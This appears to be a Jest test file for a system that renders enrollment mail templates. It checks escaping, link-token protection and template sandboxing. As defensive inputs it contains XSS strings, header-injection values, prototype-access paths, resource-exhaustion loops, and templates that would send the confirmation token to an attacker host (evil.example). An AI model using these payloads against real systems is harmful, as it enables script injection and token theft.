import { describe, expect, it } from '@jest/globals';
import { checkMailTemplate } from '../../src/enrollment/mails/check-template.js';
import { barestValues, exampleValues } from '../../src/enrollment/mails/example.js';
import { renderMail, TemplateError } from '../../src/enrollment/mails/render.js';
import { shippedTemplate } from '../../src/enrollment/mails/words/shipped.js';
import { MailLocale, PetitionMailKind, PetitionStatus } from '../../src/entities/enums.js';
import type { FlowMailTemplate } from '../../src/entities/flow-settings.js';

const { CONFIRMATION, DENIED, APPROVAL_REQUESTED, STATUS_CHANGED } = PetitionMailKind;
const KINDS = Object.values(PetitionMailKind);
const EACH = Object.values(MailLocale).flatMap((locale) => KINDS.map((kind) => [kind, locale] as const));

const words = (given: Partial<FlowMailTemplate> = {}): FlowMailTemplate => ({
  kind: CONFIRMATION,
  locale: MailLocale.EN,
  subject: 'Please confirm',
  text: 'Hello {{ recipientName }},\n\n{{ link }}',
  html: null,
  ...given,
});
const check = (given: Partial<FlowMailTemplate>) => checkMailTemplate(words(given), 'input', 'mailTemplates', '0');
const render = (given: Partial<FlowMailTemplate>, values: object = {}) => {
  const template = words(given);
  return renderMail(template.kind, template.locale, template, { ...exampleValues(template.kind), ...values });
};

describe('the shipped words', () => {
  it.each(EACH)('of %s in %s tell what is known, as text and as HTML', (kind, locale) => {
    const values = exampleValues(kind);
    const { subject, text, html } = renderMail(kind, locale, null, values);
    expect(subject).not.toMatch(/[\n{}]/);
    expect(`${subject}\n${text}`).toContain(values.organizationName);
    for (const part of [text, html]) {
      expect(part).toContain(values.link);
      expect(part).toContain(values.recipientName);
      expect(part).toContain(values.flowName);
      expect(part).not.toMatch(/[{}]{2}|\{%|undefined|null|\uE000/);
    }
    expect(html).toContain(`<html lang="${locale.toLowerCase()}">`);
    expect(html.match(new RegExp(`<a href="${values.link.replace(/[/.?#]/g, '\\$&')}"`, 'g'))).toHaveLength(2);
    expect(html).not.toMatch(/<img|<link|<script|src=/);
    expect(shippedTemplate(kind, locale).html).toBeNull();
    expect(checkMailTemplate({ kind, locale, ...shippedTemplate(kind, locale) })).toBeNull();
  });

  it.each(EACH)('of %s in %s do without what is not known', (kind, locale) => {
    const { subject, text, html } = renderMail(kind, locale, null, barestValues(kind));
    expect(subject).toMatch(/\S/);
    expect(subject).not.toMatch(/ {2}|: *$/);
    expect(text).not.toMatch(/\n{3}| \n|\(\)|undefined|null/);
    expect(html).not.toMatch(/<p><\/p>|undefined|null/);
  });

  it('quote what an approver wrote, line by line', () => {
    const decisionComment = 'Not yet.\n\n<b>See</b> you';
    const { text, html } = renderMail(DENIED, MailLocale.EN, null, { ...exampleValues(DENIED), decisionComment });
    expect(text).toContain('> Not yet.\n>\n> <b>See</b> you\n');
    expect(html).toMatch(/<blockquote[^>]*>Not yet\.<br>\n<br>\n&#60;b&#62;See&#60;\/b&#62; you<\/blockquote>/);
  });

  it('write days and statuses in their language', () => {
    const values = { ...exampleValues(STATUS_CHANGED), status: PetitionStatus.FINALIZED };
    expect(renderMail(STATUS_CHANGED, MailLocale.FR, null, values).text).toContain('est maintenant terminée.');
    expect(renderMail(STATUS_CHANGED, MailLocale.EN, null, values).text).toContain('is now completed.');
    const ends = (locale: MailLocale) => renderMail(CONFIRMATION, locale, null, exampleValues(CONFIRMATION)).text;
    expect(ends(MailLocale.EN)).toContain('31 January 2030 at 12:00 UTC');
    expect(ends(MailLocale.FR)).toContain('31 janvier 2030 à 12:00 UTC');
  });
});

describe('the words of a flow', () => {
  it('read every variable', () => {
    const names = ['flowName', 'organizationName', 'recipientName', 'enrolleeName', 'petitionerName', 'expiresAt'];
    const text = [...names, 'decisionComment', 'status', 'statusText', 'attributes.department', 'link']
      .map((name) => `${name}: {{ ${name} }}`)
      .join('\n');
    const list = '{% for attribute in attributeList %}{{ attribute.key }} {{ attribute.label }} {{ attribute.value }}';
    const rendered = render({ kind: APPROVAL_REQUESTED, text: `${text}\n${list}{% endfor %}` });
    expect(check({ text })).toBeNull();
    expect(rendered.text).toBe(`flowName: Joining the team
organizationName: Example Organization
recipientName: Camille Durand
enrolleeName: Camille Durand
petitionerName: Sacha Martin
expiresAt: 31 January 2030 at 12:00 UTC
decisionComment: This is what the approver wrote.
It may have several lines.
status: PENDING_APPROVAL
statusText: waiting for approval
attributes.department: Research & Development
link: https://app.example.org/petitions#petition=pet_0199a1b2-c3d4-7e5f-8a6b-000000000000
department Department Research & Development
`);
  });

  it('may do without HTML: it is made of the text, where only the link and what the flow wrote become links', () => {
    const { html } = render(
      { text: '{{ enrolleeName }}\n\nSee https://example.org/help.\n\nGo on:\n{{ link }}' },
      { enrolleeName: 'A <b>', flowName: '' },
    );
    expect(html).toContain('<p>A &#60;b&#62;</p>');
    expect(html).toContain('<p>See <a href="https://example.org/help">https://example.org/help</a>.</p>');
    expect(html).toContain('>Go on</a></p>');
    const stranger = render({ text: '{{ attributes.site }} {{ link }}' }, attribute('site', 'https://evil.example/'));
    expect(stranger.html).not.toContain('href="https://evil.example/"');
  });

  it('have their values escaped in HTML, in every way that a value can be written', () => {
    const evil = `"><script>alert(1)</script>' onmouseover='x`;
    const ways = ['{{ flowName }}', '{{ flowName | line_breaks }}', '{{ flowName | quote }}'];
    ways.push('{{ flowName | append: "<i>" }}', '{{ flowName | default: "x" | upcase }}');
    ways.push('{% for a in attributeList %}{{ a.value }}{% endfor %}', '<p title="{{ flowName }}">x</p>');
    for (const way of ways) {
      const html = `${way} <a href="{{ link }}">go</a>`;
      const rendered = render({ html }, { flowName: evil, ...attribute('a', evil) });
      expect([way, /<script|<i>/i.test(rendered.html)]).toEqual([way, false]);
      expect([way, / onmouseover=/.test(rendered.html.replace(/"[^"]*"/g, '""').replace(/>[^<]*/g, '>'))]).toEqual([
        way,
        false,
      ]);
    }
  });

  it('make a subject of one line, whatever the values are', () => {
    const { subject } = render({ subject: 'For {{ flowName }}' }, { flowName: 'A\r\nBcc: all@example.org\u2028x' });
    expect(subject).toBe('For A Bcc: all@example.org x');
  });

  it('have no names in which an address hides', () => {
    for (const enrolleeName of ['Win at https://evil.example', 'www.evil', 'evil.example', 'a@b.example']) {
      expect(render({ text: '[{{ enrolleeName }}]\n{{ link }}' }, { enrolleeName }).text).toContain('[]');
    }
    const { text } = render({ text: '[{{ enrolleeName }}]\n{{ link }}' }, { enrolleeName: 'J. R. Müller-Öz' });
    expect(text).toContain('[J. R. Müller-Öz]');
  });
});

describe('checking the words of a flow', () => {
  it.each([
    [
      'an unknown variable, with its line',
      { text: 'a\nb {{ user }}\n{{ link }}' },
      /^text, line 2: .* no variable user/,
    ],
    ['a part of a variable that has none', { text: '{{ link.constructor }}' }, /no variable link\.constructor/],
    ['a key that is computed', { text: '{{ attributes[status] }}{{ link }}' }, /no variable attributes/],
    ['a variable in a condition', { text: '{% if secret %}{% endif %}{{ link }}' }, /no variable secret/],
    ['a variable of a filter', { text: '{{ flowName | append: env }} {{ link }}' }, /no variable env/],
    ['an unknown tag', { text: '{% include "x" %}' }, /^text, line 1: tag "include" not found\. There are if/],
    ['assignments', { text: '{% assign a = link %}' }, /tag "assign" not found/],
    ['what would write without escaping', { html: '{% echo flowName %}' }, /^html, line 1: tag "echo" not found/],
    ['an unknown filter', { text: '{{ link | raw }}' }, /undefined filter: raw\. There are append/],
    ['a tag that is not closed', { text: 'x\n{% if link %}' }, /^text, line 2: .*not closed/],
    ['an output that is not closed', { subject: '{{ flowName' }, /^subject, line 1: .*not closed/],
    ['several lines in a subject', { subject: 'a\nb' }, /^subject is one line/],
    ['control characters', { text: 'a\u0000{{ link }}' }, /^text is text without control/],
    ['a subject that may be empty', { subject: '{{ enrolleeName }}' }, /^subject: there is nothing/],
    ['no link in the text', { text: 'Hello' }, /^text: it has to show the link/],
    ['a link that is not always there', { text: '{% if enrolleeName %}{{ link }}{% endif %}' }, /has to show the link/],
    ['no link in the HTML', { html: '<p>Hello</p>' }, /^html: it has to show the link/],
    [
      'loops in loops',
      { text: '{{ link }}\n{% for a in attributeList %}\n{%- for b in attributeList %}x{% endfor %}{% endfor %}' },
      /^text, line 3: a loop cannot stand in another/,
    ],
    ['a list where text belongs', { text: '{{ attributeList }} {{ link }}' }, /only text can be written/],
    ['scripts', { html: '{{ link }}<script>x</script>' }, /^html: mails cannot hold <script>/],
    ['forms', { html: '{{ link }}<form action="https://evil.example"></form>' }, /cannot hold <form>/],
  ])('refuses %s', (_what, given, message) => {
    const found = check(given);
    expect(found).toMatchObject({ code: 'INVALID', message: expect.stringMatching(message) });
    expect(found!.field).toEqual(['input', 'mailTemplates', '0', Object.keys(given)[0]]);
  });

  it('refuses what is empty or too long', () => {
    expect(check({ subject: ' ' })).toMatchObject({ code: 'REQUIRED', field: expect.arrayContaining(['subject']) });
    expect(check({ text: '' })).toMatchObject({ code: 'REQUIRED' });
    expect(check({ html: '' })).toMatchObject({ code: 'REQUIRED' });
    expect(check({ subject: 'x'.repeat(251) })).toMatchObject({ code: 'TOO_LONG' });
    expect(check({ text: `{{ link }}${'x'.repeat(20_000)}` })).toMatchObject({ code: 'TOO_LONG' });
    expect(check({ html: `{{ link }}${'x'.repeat(50_000)}` })).toMatchObject({ code: 'TOO_LONG' });
  });

  it.each([
    ['an image', { html: '<img src="https://evil.example/?{{ link }}">{{ link }}' }],
    ['another address', { html: '<a href="https://evil.example/?{{ link | upcase }}">a</a> {{ link }}' }],
    ['a style', { html: '<p style="background:url(https://evil.example/{{ link }})">{{ link }}</p>' }],
    ['an address in the text of HTML', { html: '<p>https://evil.example/?{{ link }}</p>' }],
    ['an address in text', { text: 'https://evil.example/?{{ link }}' }],
    ['an address by a filter', { text: '{{ link | prepend: "https://evil.example/?" }}' }],
  ])('refuses a link whose token would go elsewhere, by %s', (_what, given) => {
    expect(check(given)).toMatchObject({ code: 'INVALID', message: expect.stringContaining('the link has to stand') });
  });

  it('keeps the token from filters and from the subject', () => {
    const { subject, text } = render({
      subject: 'Hi {{ link }}',
      text: '{{ link | truncate: 3, "" }} {{ link | upcase }}',
    });
    expect([subject, text]).toEqual([
      'Hi',
      'https://app.example.org/petitions/confirm#token=example https://app.example.org/petitions/confirm#token=example\n',
    ]);
  });
});

describe('hostile words', () => {
  const hostile: [string, string][] = [
    ['endless ranges', '{% for a in (1..100000000) %}x{% endfor %}'],
    [
      'loops in loops',
      '{% for a in (1..300) %}{% for b in (1..300) %}{% for c in (1..300) %}x{% endfor %}{% endfor %}{% endfor %}',
    ],
    ['loops over the list', loops(12)],
    ['huge output', `{% for a in (1..1000) %}${'x'.repeat(10_000)}{% endfor %}`],
    ['growing text', `{{ flowName ${'| append: flowName '.repeat(900)} }}`],
    ['growing texts', '{% for a in (1..1000) %}{{ decisionComment | append: decisionComment | upcase }}{% endfor %}'],
    ['deep nesting', `${'{% if link %}'.repeat(700)}${'{% endif %}'.repeat(700)}`],
  ];

  it.each(hostile)('of %s end soon, without a mail or with a small one', (_what, source) => {
    const attributes = Array.from({ length: 100 }, (_, index) => ({ key: `k${index}`, label: 'L', value: 'v' }));
    const began = performance.now();
    let size = 0;
    try {
      size = render({ kind: DENIED, text: `x ${source}`, html: null }, { attributes }).html.length;
    } catch (error) {
      expect(error).toBeInstanceOf(TemplateError);
    }
    expect(size).toBeLessThan(300_000);
    expect(performance.now() - began).toBeLessThan(1_000);
  });

  it('reach nothing but their variables', () => {
    const paths = ['constructor', '__proto__', 'attributes.constructor', 'attributes.__proto__', 'attributes.toString'];
    paths.push('link.constructor.constructor', 'attributeList.constructor', 'process', 'global', 'this');
    for (const path of paths)
      expect([path, render({ text: `[{{ ${path} }}] {{ link }}` }).text.slice(0, 3)]).toEqual([path, '[] ']);
    const item = '{% for a in attributeList %}[{{ a.constructor }}{{ a.__proto__ }}]{% endfor %}';
    expect(render({ text: `${item} {{ link }}` }).text).toMatch(/^\[\] /);
  });

  it('leave nothing that runs in HTML', () => {
    const html = `<p onclick="x()" style="color:red">{{ link }}</p><a href="javascript:x()">x</a><img src="data:image/svg+xml,x" onerror="x()"><meta http-equiv="refresh" content="0;url=https://evil.example">`;
    const rendered = render({ html });
    expect(rendered.html).toContain('style="color:red"');
    expect(rendered.html).not.toMatch(/onclick|javascript:|onerror|data:|http-equiv/);
    for (const name of ['script', 'iframe', 'object', 'form', 'base', 'svg', 'style', 'link', 'input'])
      expect(() => render({ html: `{{ link }}<${name}>x</${name}>` })).toThrow(`mails cannot hold <${name}>`);
  });
});

function attribute(key: string, value: string) {
  return { attributes: [{ key, label: key, value }] };
}

function loops(depth: number): string {
  const open = Array.from({ length: depth }, (_, level) => `{% for a${level} in attributeList %}`);
  return `${open.join('')}${'{% endfor %}'.repeat(depth)}`;
}
